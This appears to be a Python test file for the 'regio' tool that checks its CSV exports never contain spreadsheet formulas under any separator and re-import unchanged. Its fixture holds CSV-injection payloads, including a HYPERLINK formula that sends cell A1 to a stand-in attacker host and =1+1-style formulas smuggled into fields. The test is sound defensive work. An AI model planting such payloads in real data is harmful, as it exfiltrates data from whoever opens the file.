"""No CSV that regio writes has a formula in it, whichever separator it is opened with."""

import csv
import io
import re
from pathlib import Path

import pytest

from tests.acceptance.changes import Desk

HOSTILE = (
    "name: Zie ook;=HYPERLINK(\"http://kwaad.example/?\"&A1)\nshort_name: '=1+1'\ntype: foundation\npillar: society\n"
    'note: "brief,=2+2\\ntweede\\n=3+3|=4+4\\t=5+5;\\"=6+6\\""\n'
)
WRITERS = [
    ["export", "csv", "partners", "--audience", "bureau"],
    ["export", "csv", "partners", "--audience", "bureau", "--excel-nl"],
    ["export", "csvw", "partners", "--audience", "bureau", "-o", "uit"],
    ["export", "datapackage", "partners", "--audience", "bureau", "-o", "uit"],
    ["export", "mailmerge", "--audience", "bureau"],
    ["export", "mailmerge", "--audience", "bureau", "--excel-nl"],
    ["list", "partners", "--format", "csv"],
    ["query", "SELECT name, note, json_array(name, note) AS both FROM partner", "--format", "csv"],
    ["report", "today", "--format", "csv"],
]


@pytest.fixture
def hostile(desk: Desk) -> Desk:
    desk.write("partners/kwaad.yaml", HOSTILE)
    person = desk.read("persons/p-a1b2.yaml").replace("family: Bergsma", "family: 'Berg;=1+1,=2+2'")
    desk.write("persons/p-a1b2.yaml", person)
    desk.git("add", "-A")
    desk.git("commit", "-qm", "Van een ander")
    return desk


@pytest.mark.parametrize("words", WRITERS, ids=" ".join)
def test_no_csv_has_a_formula_by_any_separator(words: list[str], hostile: Desk) -> None:
    result = hostile.regio(*words)
    assert result.code in (0, 1), result
    written = [file.read_text() for file in (hostile.root / "uit").rglob("*.csv")] if "uit" in words else [result.out]
    assert "today" in words or re.search(r"1\+1|HYPERLINK", "".join(written))
    for text in written:
        for separator in ";,\t|":
            rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator)
            cells = [cell for row in rows for cell in row] + re.split(f"[\r\n{re.escape(separator)}]", text)
            assert not [cell for cell in cells if cell.lstrip(' "').startswith(("=", "@", "\t"))], (separator, text)


@pytest.mark.parametrize("more", [[], ["--excel-nl"]])
def test_what_comes_back_is_what_stood_there(more: list[str], hostile: Desk, tmp_path: Path) -> None:
    file = tmp_path / "partner.csv"
    hostile.done("export", "csv", "partners", "--audience", "bureau", "-o", str(file), *more)
    before = hostile.data("partners/kwaad.yaml")
    hostile.done("set", "partner/kwaad", "name=Ander", "note=", "short_name=", "--reason", "proef")
    hostile.done("import", str(file), "--kind", "partner", "--yes", "--reason", "terug")
    assert hostile.data("partners/kwaad.yaml") == before
